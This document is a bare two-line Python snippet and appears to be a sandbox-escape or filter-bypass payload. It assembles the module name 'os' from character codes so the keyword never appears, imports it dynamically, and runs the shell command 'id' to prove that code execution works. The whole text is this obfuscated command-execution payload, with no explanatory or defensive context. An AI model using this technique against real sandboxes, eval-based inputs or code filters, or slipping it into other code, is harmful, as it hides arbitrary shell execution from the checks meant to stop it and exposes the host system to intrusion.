mod = __import__("".join(chr(c) for c in [111, 115]))
mod.system("id")
